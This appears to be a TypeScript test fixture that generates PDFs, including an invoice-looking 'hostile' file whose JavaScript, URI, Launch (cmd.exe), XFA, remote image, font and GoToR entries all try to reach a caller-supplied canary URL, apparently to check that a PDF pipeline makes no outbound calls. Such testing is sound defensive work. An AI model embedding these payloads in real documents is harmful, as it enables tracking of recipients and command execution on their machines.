/** PDFs as customers and attackers attach them. */

/** Numbered from 1; the first is the catalog. @param trailer more of its entries */
function pdfOf(objects: readonly string[], trailer = ''): Buffer {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  return Buffer.from(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`,
    'latin1',
  );
}

const stream = (content: string, more = ''): string => `<< /Length ${content.length} ${more} >>\nstream\n${content}\nendstream`;
const line = (words: string): string => stream(`BT /F1 24 Tf 72 740 Td (${words}) Tj ET`);

const page = (content: number, more = ''): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${content} 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X1 9 0 R >> >> ${more} >>`;
const helvetica = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Two pages that do all they can to reach `canary`: when opened, when a page is shown, when it is clicked, as a picture, as a form, as a font. */
export function hostilePdf(canary: string): Buffer {
  const script = (path: string): string =>
    `<< /S /JavaScript /JS (app.alert\\(1\\); app.launchURL\\("${canary}/${path}"\\); this.submitForm\\("${canary}/${path}"\\);) >>`;
  const uri = (path: string): string => `<< /S /URI /URI (${canary}/${path}) >>`;
  const launch = `<< /S /Launch /F (${canary}/launch) /Win << /F (cmd.exe) /P (/c start ${canary}/win) >> >>`;
  const form = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><pageSet/><draw><value><image href="${canary}/xfa.png"/></value></draw></subform></template></xdp:xdp>`;
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script('open')} /URI << /Base (${canary}/) >> /AA << /WC ${script('close')} >> /Names << /JavaScript << /Names [(a) ${script('named')}] >> >> /AcroForm << /Fields [8 0 R] /XFA 10 0 R /NeedAppearances true >> >>`,
    '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
    page(6, `/AA << /O ${script('page')} >> /Annots [8 0 R 11 0 R 12 0 R 13 0 R]`),
    page(7),
    `<< /Type /Font /Subtype /TrueType /BaseFont /Helvetica /FontDescriptor << /Type /FontDescriptor /FontName /Helvetica /Flags 32 /FontFile2 14 0 R >> >>`,
    stream('q 100 0 0 100 72 500 cm /X1 Do Q BT /F1 24 Tf 72 740 Td (Invoice 10482) Tj ET'),
    line('Thank you for your order'),
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 595 842] /A ${script('button')} /AA << /E ${script('enter')} /PV ${uri('visible')} >> >>`,
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${canary}/image) >> /Length 0 >>\nstream\n\nendstream`,
    stream(form),
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${uri('link')} >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${launch} >>`,
    `<< /Type /Annot /Subtype /Screen /Rect [0 0 595 842] /A << /S /GoToR /F << /FS /URL /F (${canary}/remote.pdf) >> /D [0 /Fit] >> >>`,
    `<< /F << /FS /URL /F (${canary}/font) >> /Length 0 >>\nstream\n\nendstream`,
  ]);
}

/** Opens only with a password that nobody has. */
export function lockedPdf(): Buffer {
  const unknown = '<'.concat('5a'.repeat(32), '>');
  return pdfOf(
    ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', page(4), line('secret'), helvetica],
    `/Encrypt << /Filter /Standard /V 1 /R 2 /O ${unknown} /U ${unknown} /P -4 >> /ID [<00> <00>]`,
  );
}
